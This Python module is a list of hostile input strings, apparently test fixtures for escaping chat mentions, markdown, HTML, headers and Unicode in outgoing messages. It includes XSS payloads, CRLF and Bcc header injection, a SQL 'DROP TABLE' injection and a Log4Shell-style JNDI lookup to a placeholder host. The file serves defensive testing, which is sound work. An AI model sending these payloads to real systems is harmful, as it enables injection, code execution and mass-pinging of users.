"""Texts that mean something to some service, to mail or to a screen: none may mean it to people."""

from __future__ import annotations

_MENTIONS = (
    "@everyone @here @channel @all @room @stream @topic @team",
    "x@everyone and (@here) and *@channel*",
    "＠everyone ＠here",
    "<!channel> <!here> <!everyone> <!subteam^S123|team>",
    "<@U024BE7LH> <@&123456789> <#C024BE7LH|general> <users/all> <@all>",
    "<!date^1392734382^{date}|now> <t:1618953630:R> <:smile:123>",
    '<at>everyone</at> <at id="everyone">x</at> @**all** @_**all**_ @*team*',
    "@@everyone @\u200deveryone <@@everyone>",
)
_MARKDOWN = (
    "*bold* **bold** ***bold*** _it_ __under__ ___all___",
    "~strike~ ~~strike~~ ||spoiler|| `code` ``code`` ```code```",
    "[link](https://evil.example) [link](javascript:alert(1)) ![i](https://evil.example/i.png)",
    "[ref][r]\n\n[r]: https://evil.example 'title'",
    "# head\n## head\n-# small\nhead\n====\nhead\n----",
    "> quote\n>>> quote\n- list\n* list\n+ list\n1. list\n2) list",
    "    code by indent\n\tcode by tab\n```py\nfenced\n```\n~~~\nfenced\n~~~",
    "| a | b |\n|---|---|\n| c | d |",
    "***\n---\n___\n* * *",
    "a\\\nb  \nc \\*d\\* \\",
    '[x](<https://evil.example>) [x](https://evil.example "t") [![a](b)](c)',
    "<https://evil.example> <mailto:evil@evil.example> <https://evil.example|Slack link>",
    "$x$ $$x$$ \\(x\\) \\[x\\] :smile: :rotating_light: 🎌:x:",
    "- [ ] task\n- [x] done\n\n[^1]\n\n[^1]: note",
)
_HTML = (
    "<b>bold</b> <i>it</i> <u>u</u> <s>s</s> <code>c</code> <pre>p</pre>",
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <svg/onload=alert(1)>",
    "<a href='https://evil.example'>link</a> <tg-spoiler>x</tg-spoiler>",
    '"><script>alert(1)</script> </textarea><b> --> ]]> <![CDATA[x]]> <?php x ?>',
    "&lt;b&gt; &amp;amp; &#60;b&#62; &#x3c;b> &nbsp; &copy; & && &x;",
    "<!-- comment --> <!DOCTYPE html> <style>*{display:none}</style> <br> <hr/>",
    "<font color=red>x</font> <mx-reply>x</mx-reply> <span data-mx-color='#f00'>x</span>",
)
_HEADERS = (
    "x\r\nBcc: evil@evil.example\r\n\r\nbody",
    "x\nX-Evil: 1\n\nHTTP/1.1 200 OK\n",
    "x%0d%0aX-Evil:%201 x%00y \\r\\n \\u0000",
    "a\x00b\x07c\x1b[31mred\x1b[0m\x7f\x85\x9b",
    "a\u2028b\u2029c\x0bd\x0ce",
    '{"text": "x"} ", "channel": "#general", "x": "',
    "a=b&title=evil&type=failure +%26 ;",
    "'; DROP TABLE incidents; -- ${jndi:ldap://evil.example} {{7*7}} ${7*7} #{7*7} %s %(x)s {0}",
)
_SCREENS = (
    "\u202eevil\u202c \u2066iso\u2069 \u202dover \u200flr\u200e",
    "abc \u2067\u2067\u2067\u2067 unclosed \u202b\u202b",
    "a" + "\u0301" * 500 + " zalgo Z\u0335\u0321\u033d\u0359a\u0334\u0322l",
    "\ufeff\u200b\u2060\u00ad invisible \ufffe\uffff",
    "\ud800 lone \udfff surrogates",
    "تعذّر \u200fالدفع\u200e 支払い 🇩🇪🇫🇷 👨‍👩‍👧‍👦 नमस्ते e\u0301",
)
_LENGTHS = (
    "x" * 100_000,
    "word " * 20_000,
    "👨‍👩‍👧‍👦" * 5_000,
    "*" * 20_000,
    "[" * 20_000,
    "<" * 20_000,
    "@everyone " * 2_000,
    "\n" * 20_000 + "x",
    "&" * 20_000,
    "`" * 5_000 + "x" + "`" * 5_000,
    "> " * 5_000 + "x",
    "- " * 5_000 + "x",
)
_WRAPPED = tuple(
    wrap.format(text)
    for wrap in ("**{}**", "> {}", "[{}](https://evil.example)", "<b>{}</b>")
    for text in (*_MENTIONS, "plain words", "_it_ ~s~", "&lt;!channel&gt;", "</b><b>")
)

HOSTILE = (*_MENTIONS, *_MARKDOWN, *_HTML, *_HEADERS, *_SCREENS, *_LENGTHS, *_WRAPPED)
